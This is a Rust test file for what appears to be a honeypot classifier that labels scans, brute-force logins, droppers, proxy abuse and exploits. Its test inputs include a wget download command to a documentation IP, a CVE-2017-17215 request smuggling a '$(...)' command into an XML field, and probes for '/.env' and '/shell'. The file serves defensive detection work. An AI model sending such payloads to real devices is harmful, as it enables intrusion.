//! The table of `docs/classification.md`.

use std::sync::Arc;

use komainu_decode::{Command, Fact, Login, Place, Protocol, Secret, Side, Transport};
use komainu_intel::{Classifier, Label, PayloadRule, RuleList, Scanners, Verdict};

use crate::scene::{START, Session, built_in, sids};

const GREETING: (Side, &[u8]) = (Side::Server, b"login: ");

/// What each is labelled, and with which techniques.
fn check(verdict: &Verdict, label: Label, techniques: &[&str]) {
    assert_eq!(verdict.label, label, "{verdict:?}");
    assert_eq!(verdict.techniques, techniques, "{verdict:?}");
    assert!(label == Label::Unknown || verdict.confidence > 0, "{verdict:?}");
}

fn login(session: &mut Session, user: &str, password: &str, accepted: bool) {
    let secret = Secret::Password(password.as_bytes());
    let login = Login { user: user.as_bytes(), secret, accepted: Some(accepted) };
    session.watch.fact(session.at, place(), &Fact::Login(login));
}

fn command(session: &mut Session, line: &str) {
    session.watch.fact(session.at, place(), &Fact::Command(Command { line: line.as_bytes() }));
}

fn place() -> Place {
    Place { side: Side::Client, offset: 3, bytes: 5 }
}

fn telnet() -> Session {
    let mut session = Session::new(&built_in(), Transport::Tcp, 23);
    session.said(GREETING.0, GREETING.1);
    session
}

#[test]
fn looking_around() {
    let classifier = built_in();
    let of = |port, said: &[(Side, &[u8])]| sids(&classifier, Transport::Tcp, port, said).1;
    check(&of(23, &[GREETING]), Label::Scan, &["T1595.001"]);
    check(&of(80, &[(Side::Client, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")]), Label::Scan, &["T1595.002"]);
    check(&of(80, &[(Side::Client, b"GET /.env HTTP/1.1\r\n\r\n")]), Label::Scan, &["T1595.002", "T1595.003"]);
    check(&of(80, &[(Side::Client, b"POST /a?b=c HTTP/1.1\r\nContent-Length: 1\r\n\r\nx")]), Label::Unknown, &[]);
    check(&of(9999, &[(Side::Client, b"\x00\x01\x02\x03")]), Label::Unknown, &[]);
}

#[test]
fn many_ports_are_a_scan() {
    let classifier = built_in();
    let verdicts: Vec<_> =
        (5001..5008).map(|port| sids(&classifier, Transport::Tcp, port, &[(Side::Client, b"\x00\x01")]).1).collect();
    assert_eq!(verdicts[0].label, Label::Unknown);
    check(&verdicts[6], Label::Scan, &["T1595.002"]);
}

#[test]
fn guessing() {
    let mut session = telnet();
    login(&mut session, "root", "a", false);
    let (_, verdict) = session.end();
    check(&verdict, Label::Bruteforce, &["T1110.001"]);
    assert_eq!(verdict.confidence, 40);
    assert_eq!((verdict.evidence[0].rule.as_str(), verdict.evidence[0].place), ("failed_login", Some(place())));
    let mut session = telnet();
    for user in ["root", "admin", "guest"] {
        login(&mut session, user, "a", false);
    }
    check(&session.end().1, Label::Bruteforce, &["T1110.003"]);
}

#[test]
fn one_guess_in_each_connection_is_guessing() {
    let classifier = built_in();
    let mut confidence = Vec::new();
    for number in 0..12 {
        let mut session = Session::new(&classifier, Transport::Tcp, 23);
        session.at = START + number * 1_000_000;
        session.said(GREETING.0, GREETING.1);
        login(&mut session, "root", &number.to_string(), false);
        confidence.push(session.end().1.confidence);
    }
    assert_eq!((confidence[0], confidence[2], confidence[11]), (40, 80, 95));
    let mut later = Session::new(&classifier, Transport::Tcp, 23);
    later.at = START + 3_600_000_000;
    login(&mut later, "root", "x", false);
    assert_eq!(later.end().1.confidence, 40);
}

#[test]
fn getting_in_and_what_follows() {
    let mut session = telnet();
    login(&mut session, "root", "a", true);
    check(&session.end().1, Label::Login, &["T1078.001"]);

    let mut session = telnet();
    login(&mut session, "root", "a", true);
    command(&mut session, "uname -a");
    session.watch.noted("cleared_history");
    check(&session.end().1, Label::Login, &["T1059.004", "T1070.003", "T1078.001"]);

    let mut session = telnet();
    login(&mut session, "root", "a", true);
    command(&mut session, "wget http://192.0.2.1/a.txt");
    session.watch.fetched();
    let (alerts, verdict) = session.end();
    assert_eq!(alerts, [1_000_303]);
    check(&verdict, Label::Dropper, &["T1059.004", "T1078.001", "T1105"]);
    assert_eq!(verdict.evidence[0].rule, "1000303");

    let mut session = telnet();
    session.watch.captured(b"#!/bin/sh\n", false);
    session.watch.ran();
    let verdict = session.end().1;
    check(&verdict, Label::Dropper, &["T1105"]);
    assert_eq!(verdict.confidence, 95);

    let mut session = telnet();
    login(&mut session, "root", "a", true);
    session.watch.captured(b"notes", false);
    check(&session.end().1, Label::Login, &["T1078.001"]);
}

#[test]
fn being_passed_on() {
    let classifier = built_in();
    let of = |said: &[u8]| sids(&classifier, Transport::Tcp, 80, &[(Side::Client, said)]).1;
    check(&of(b"CONNECT example.org:443 HTTP/1.1\r\n\r\n"), Label::ProxyAbuse, &["T1090"]);
    check(&of(b"GET http://example.org/ HTTP/1.1\r\n\r\n"), Label::ProxyAbuse, &["T1090"]);
    check(&of(b"GET http://198.51.100.1/ HTTP/1.1\r\n\r\n"), Label::Scan, &["T1595.002"]);
    let mut session = Session::new(&classifier, Transport::Tcp, 22);
    session.watch.protocol(START, Protocol::Ssh);
    login(&mut session, "root", "a", true);
    session.watch.forward_wanted();
    check(&session.end().1, Label::ProxyAbuse, &["T1021.004", "T1078.001", "T1090"]);
}

#[test]
fn exploits_come_first() {
    let body = "<NewStatusURL>$(hello)</NewStatusURL>";
    let head = format!("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: {}\r\n\r\n", body.len());
    let request = [head.as_bytes(), body.as_bytes()].concat();
    let (alerts, verdict) = sids(&built_in(), Transport::Tcp, 37215, &[(Side::Client, &request)]);
    assert_eq!(alerts, [1_000_001]);
    check(&verdict, Label::Exploit, &["T1190"]);
    assert_eq!(verdict.cves, ["CVE-2017-17215"]);
    assert_eq!(verdict.confidence, 95);
    assert_eq!(verdict.alerts, 1);
    let place = verdict.evidence[0].place.unwrap();
    assert_eq!((place.side, place.offset, place.bytes), (Side::Client, 0, head.len() as u64));
}

#[test]
fn known_scanners() {
    let listed = || {
        let mut list = RuleList::default();
        list.add(komainu_intel::BUILT_IN_RULES);
        let mut scanners = Scanners::default();
        scanners.add("# Example Measurement\n192.0.2.0/24\n");
        Classifier::new(list.compile(), scanners, None)
    };
    let get = |path: &str| format!("GET {path} HTTP/1.1\r\nUser-Agent: CensysInspect/1.1\r\n\r\n").into_bytes();
    let of =
        |classifier: &Arc<Classifier>, said: &[u8]| sids(classifier, Transport::Tcp, 80, &[(Side::Client, said)]).1;
    let verdict = of(&listed(), &get("/"));
    check(&verdict, Label::Crawler, &["T1595.002"]);
    let scanner = verdict.scanner.unwrap();
    assert_eq!((scanner.name.as_str(), scanner.is_benign), ("Example Measurement", true));
    // What somebody says of themselves is no proof, and nobody may do what is hostile.
    let verdict = of(&built_in(), &get("/"));
    check(&verdict, Label::Crawler, &["T1595.002"]);
    assert_eq!((verdict.confidence, verdict.scanner.unwrap().is_benign), (60, false));
    assert_eq!(of(&listed(), &get("/shell?x")).label, Label::Exploit);
    assert_eq!(of(&built_in(), &get("/shell?x")).label, Label::Exploit);
}

#[test]
fn answers_that_are_larger() {
    let classifier = built_in();
    let of = |port, said: &[(Side, &[u8])]| sids(&classifier, Transport::Udp, port, said).1;
    let search = b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\nMX: 1\r\nMAN: \"ssdp:discover\"\r\n\r\n";
    check(&of(1900, &[(Side::Client, search)]), Label::ReflectionProbe, &["T1498.002"]);
    let search = b"M-SEARCH * HTTP/1.1\r\nST: upnp:rootdevice\r\nMX: 1\r\n\r\n";
    check(&of(1900, &[(Side::Client, search)]), Label::ReflectionProbe, &["T1498.002"]);
}

#[test]
fn rules_about_payloads_say_a_label_as_others_do() {
    let rule = |name: &str, label: &str, technique: &str| {
        let meta = [("komainu_label", label), ("komainu_confidence", "77"), ("mitre_technique_id", technique)];
        let meta: Vec<_> = meta.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect();
        PayloadRule::of_yara("ours", name, &meta)
    };
    let with = |rules: &[PayloadRule]| {
        let mut session = Session::new(&built_in(), Transport::Tcp, 9999);
        session.said(Side::Client, b"\x00\x01\x02\x03");
        for rule in rules {
            session.watch.payload_rule(rule.clone());
        }
        session.end().1
    };
    let verdict = with(&[rule("one", "dropper", "T1105"), rule("other", "scan", "x"), rule("one", "exploit", "x")]);
    check(&verdict, Label::Dropper, &["T1105"]);
    assert_eq!(verdict.confidence, 77);
    let evidence: Vec<_> = verdict.evidence.iter().map(|evidence| (&*evidence.rule, evidence.place)).collect();
    assert_eq!(evidence, [("yara:ours:one", None), ("yara:ours:other", None)]);
    check(&with(&[rule("no_label", "", "T1027.002")]), Label::Unknown, &["T1027.002"]);
    let many: Vec<_> = (0..1000).map(|n| rule(&format!("r{n}"), "exploit", "T1190")).collect();
    assert_eq!(with(&many).evidence.len(), 16);
}
